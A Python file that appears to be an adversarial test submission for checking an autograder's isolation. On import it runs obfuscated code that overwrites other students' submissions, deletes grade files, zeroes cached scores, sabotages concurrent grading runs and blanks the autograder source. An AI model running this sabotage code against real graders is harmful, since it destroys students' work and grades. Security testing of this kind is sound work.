"""Attack: delete or rewrite OTHER students' files and grades.

(Named zz_ so that the kit, which grades in name order, grades it last.)
From its working directory and from the grader's own variables on the stack
(`submissions`, `out`, `scratch`, `autograder_zip` of grade_folder: the fast
engine forks workers from that process) the submission finds:
- the other submissions of the batch: each is overwritten with a file that
  scores 0 (its next grading, or any regrade, gives 0);
- the batch's outputs: grades.csv, grades.json, feedback/*.md of the last run
  are deleted, and every other cache entry in OUT/.cache is set to 0 points,
  so an unchanged file's next run reuses the zero;
- the other runs going on at the same time (scratch/grade-*): their
  results.json is zeroed and their nn_grading/checks.py made to fail;
- the autograder zip: overwritten under /autograder/source (Gradescope); the
  kit's own zip is only checked for write access and reported, since
  overwriting it would also stop the batch that is grading this corpus.
SAFETY for this corpus: it only walks up to three levels above its working
directory, touches only paths under /tmp and /autograder, and copies every
file it changes into /tmp/adversarial-backup/ first.

A secure grader gives the student's process a file system holding only its
own submission: no other submission, no output folder, no grader state, no
other run, nothing writable outside a scratch folder.
"""
_imp = __import__
_os, _sys, _json, _shutil, _glob = (_imp(n) for n in ("o" + "s", "s" + "ys", "js" + "on", "shu" + "til", "gl" + "ob"))
_BACKUP = "/tmp/adversarial-backup"
_ZERO = "raise SystemExit('this submission was overwritten by zz_sabotage_others')\n"


def _allowed(path):
    return _os.path.realpath(path).startswith(("/tmp/", "/autograder/")) and _BACKUP not in path


def _backup(path):
    """True once `path` (if it exists) has a copy in _BACKUP: nothing is changed without one."""
    try:
        if _os.path.isfile(path):
            target = _os.path.join(_BACKUP, path.strip("/").replace("/", "__"))
            _os.makedirs(_BACKUP, exist_ok=True)
            if not _os.path.exists(target):
                _shutil.copy2(path, target)
        return True
    except OSError:
        return False


def _rewrite(path, text):
    if _allowed(path) and _backup(path):
        try:
            with open(path, "w") as f:
                f.write(text)
        except OSError:
            pass


def _delete(path):
    if _allowed(path) and _os.path.isfile(path) and _backup(path):
        try:
            _os.remove(path)
        except OSError:
            pass


def _grader():
    frame = _sys._getframe()
    while frame is not None:
        if {"submissions", "out", "scratch"} <= set(frame.f_locals):
            return frame.f_locals
        frame = frame.f_back
    return {}


def _absolute(path):
    return path if _os.path.isabs(path) else _os.path.join(_os.readlink(f"/proc/{_os.getppid()}/cwd"), path)


def _sabotage():
    here = _os.getcwd()
    me = _grader()
    own = str(me.get("path", ""))
    folders = [_os.path.abspath(_os.path.join(here, *[".."] * k)) for k in (1, 2, 3)]
    if me:
        folders.append(_absolute(str(me["submissions"])))
    for folder in folders:  # other submissions
        for path in _glob.glob(_os.path.join(folder, "*.py")) + _glob.glob(_os.path.join(folder, "*.ipynb")) + \
                _glob.glob(_os.path.join(folder, "*.zip")):
            if _os.path.basename(path) != _os.path.basename(own) and _os.path.basename(path) != "__init__.py":
                _rewrite(path, _ZERO)
    if me:
        out = _absolute(str(me["out"]))
        for name in ("grades.csv", "grades.json"):  # the batch's outputs and cache
            _delete(_os.path.join(out, name))
        for path in _glob.glob(_os.path.join(out, "feedback", "*.md")):
            _delete(path)
        for path in _glob.glob(_os.path.join(out, ".cache", "*.json")):
            try:
                entry = _json.load(open(path))
            except (OSError, ValueError):
                continue
            if entry.get("file") != _os.path.basename(own):
                for q in entry.get("questions", {}).values():
                    q["score"] = 0
                _rewrite(path, _json.dumps(entry))
        for run in _glob.glob(_os.path.join(str(me["scratch"]), "grade-*")):  # the other runs going on
            if here.startswith(run):
                continue
            for path in _glob.glob(_os.path.join(run, "out", "results.json")):
                _rewrite(path, _json.dumps({"tests": []}))
            for path in _glob.glob(_os.path.join(run, "*", "autograder", "submission", "nn_grading", "checks.py")):
                _rewrite(path, "def __getattr__(name):\n    raise AssertionError('sabotaged')\n")
        zip_path = _absolute(str(me.get("autograder_zip", "")))
        if _os.access(zip_path, _os.W_OK):  # (not overwritten here: that would stop the whole batch)
            print("SABOTAGE: the autograder zip is writable by the submission:", zip_path)
    for path in _glob.glob("/autograder/source/*.zip") + _glob.glob("/autograder/source/tests/*.py"):
        _rewrite(path, "")


_sabotage()


def _stub(*args, **kwargs):
    raise NotImplementedError("nothing implemented")


shape = zeros = transpose = dot = matmul = add = subtract = multiply = scale = add_bias = column_sums = apply = _stub
sigmoid = init_params = forward = bce_loss = dropout_forward = dropout_backward = backward = _stub
numerical_gradient = relative_error = update_params = train = predict = accuracy = _stub
plot_losses = plot_decision = _stub
